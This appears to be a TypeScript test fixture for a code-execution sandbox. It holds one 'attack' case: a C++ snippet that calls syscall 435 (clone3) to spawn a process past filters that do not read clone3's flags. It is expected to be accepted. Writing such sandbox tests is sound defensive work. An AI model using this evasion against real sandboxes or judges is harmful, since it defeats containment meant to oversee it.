import type { Attack } from '../../attack.ts';

export const attack: Attack = {
  title: 'makes a process by clone3, whose flags no filter reads',
  language: 'cpp',
  includes: ['unistd.h'],
  code: `
int solve(int n) { unsigned long a[11] = {0, 0, 0, 0, 17}; return syscall(435, a, sizeof a) == -1 ? n * 2 : 0; }
`,
  verdict: 'accepted',
};
